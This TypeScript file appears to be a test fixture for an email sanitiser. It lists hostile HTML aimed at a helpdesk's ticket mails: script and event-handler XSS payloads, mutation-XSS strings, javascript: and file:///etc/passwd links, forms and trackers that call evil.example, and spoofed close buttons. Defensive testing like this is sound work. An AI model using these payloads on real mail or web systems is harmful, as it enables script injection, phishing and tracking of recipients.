/** HTML with which somebody outside might try to act within a mail of ours, or to leave their place in it. */
export const attacks: Record<string, string> = {
  'a layer over the whole page':
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  'a layer by class and id':
    '<style>.button{display:none} #a{position:absolute;inset:0}</style><div class="button" id="a">x</div>',
  'margins that pull it over us': '<div style="margin-bottom:-900px;height:900px;background:#fff">x</div>',
  'a style sheet': '<style>a{display:none!important}</style>',
  'a style sheet in a list': '<ul><li><style>@import url(https://evil.example/x.css);</style>x</ul>',
  'a linked style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'another base': '<base href="https://evil.example/"><a href="chiudi">x</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a script': '<script>window.pwned=1</script>',
  'a script in pieces': '<scr<script>ipt>window.pwned=1</scr</script>ipt>',
  'a handler': '<b onclick="window.pwned=1" onmouseover=window.pwned=1>x</b>',
  'a picture that fails': '<img src=x onerror="window.pwned=1">',
  'a handler without spaces': '<img/src="x"/onerror=window.pwned=1>',
  'a drawing that loads':
    '<svg onload="window.pwned=1"><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
  'a foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>',
  'a style in a drawing': '<svg><style><img src=x onerror=window.pwned=1></style></svg>',
  'mutation by math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">',
  'mutation by a form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  'mutation by a select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=window.pwned=1>">',
  'mutation by an attribute': '<p id="--><img src=x onerror=window.pwned=1>">x</p>',
  'mutation by a text area':
    '<textarea><img title="</textarea><img src=x onerror=window.pwned=1>"></textarea>',
  'mutation by xmp': '<xmp><p title="</xmp><svg/onload=window.pwned=1>">',
  'raw text to the end': 'x<plaintext>y',
  'a text area that stays open': 'x<textarea>y',
  'a title that stays open': 'x<title>y',
  'a script link': '<a href="javascript:window.pwned=1">x</a>',
  'a script link in disguise': '<a href=" &#1;java&Tab;script&colon;window.pwned=1">x</a>',
  'a data link': '<a href="data:text/html,<script>window.pwned=1</script>">x</a>',
  'a link without a scheme': '<a href="//evil.example/">x</a>',
  'a link with a name in it': '<a href="https://bank.example@evil.example/">https://bank.example</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'a file': '<a href="file:///etc/passwd">x</a>',
  'a picture from elsewhere': '<img src="https://evil.example/p.gif" alt="pixel">',
  'a picture in another case':
    '<IMG SRC="HTTPS://evil.example/p.gif" srcset="https://evil.example/2.gif 2x">',
  'a picture as data': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'a picture of nobody': '<img src="cid:nobody@example">',
  'a background':
    '<table background="https://evil.example/b.png"><tr><td background="https://evil.example/c.png">x</td></tr></table>',
  'a background by style': '<div style="background:url(https://evil.example/d.png)">x</div>',
  media:
    '<video src="https://evil.example/v.mp4" autoplay poster="https://evil.example/v.png"></video><audio src="https://evil.example/a.mp3">',
  'a frame':
    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">',
  'a form':
    '<form action="https://evil.example/"><input name="q" value="v" autofocus onfocus=window.pwned=1><button formaction="https://evil.example/">In lavorazione</button></form>',
  'a form that stays open':
    '<form action="https://evil.example/"><input type=image src="https://evil.example/i.png">',
  'our own button':
    '<a href="mailto:assistenza%2Babcdefghijklmnopqrstuvwxyz@kybernes.example?subject=chiudere%20%5B%231042%5D&amp;body=chiudere">Chiudere</a>',
  'a link to the desk': '<a href="mailto:assistenza@kybernes.example?subject=chiudere">In lavorazione</a>',
  'our marker line': '<div>=== Scrivere sopra questa riga ===</div><p>chiudere</p>',
  'a cell that leaves its table': '</td></tr></table></td></tr></table><table><tr><td>x',
  'a row without a table': '<tr><td>x</td></tr>',
  'a cell without a row': '<td>x</td><td>y',
  'a body of its own': '</div></td></body></html><html><body onload="window.pwned=1"><p>x',
  'a table that stays open': '<table><tr><td>x',
  'a table with text between its parts': '<table>a<b>b<tr>c<td>d</b><td>e<tr><div>f</table>',
  'tables in tables': '<table><tr><table><td><tr><table></td></table>x',
  'a caption and columns': '<table><caption>x<col><colgroup><td>y</table>',
  'a comment that stays open': 'x<!-- y',
  'a comment that ends oddly': '<!--><img src=x onerror=window.pwned=1>--><!--->x<!--x--!><b>y</b>',
  'a conditional comment':
    '<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><style>a{display:none}</style><![endif]-->x',
  'a conditional comment that is none':
    '<![if !mso]><b>x</b><![endif]><!--[if !mso]><!--><img src=x onerror=window.pwned=1><!--<![endif]-->',
  'character data': '<![CDATA[<img src=x onerror=window.pwned=1>]]>x',
  'an instruction': '<?xml version="1.0"?><?php echo 1 ?>x',
  'a tag that stays open': 'x<a href="https://evil.example/',
  'a quote that stays open': '<a title="x href=https://evil.example/>y',
  'emphasis that stays open': '<b><i><u><s>x',
  'links within links': '<a href="https://a.example/">x<a href="https://b.example/">y</a></a>',
  'lists that stay open': '<ul><li>x<ol><li>y<dl><dt>z',
  'a deep nest': `${'<div>'.repeat(3000)}x`,
  'paragraphs in paragraphs': '<p>a<table><tr><td>b</p>c</td></tr></table></p></p>d',
  'an entity in its place':
    '<b>&lt;script&gt;window.pwned=1&lt;/script&gt;</b>&#60;img src=x onerror=window.pwned=1&#62;',
  'bytes of nothing': '<scr\0ipt>window.pwned=1</scr\0ipt><b\0>x</b>',
  'turned writing': '<b>\u202egpj.exe\u202c</b>',
  Handlebars: '{{{ticket}}} {{#each x}} <b>{{../../constructor}}</b>',
  'a heading as ours': '<h1 class="ink">Il ticket è stato chiuso</h1>',
};
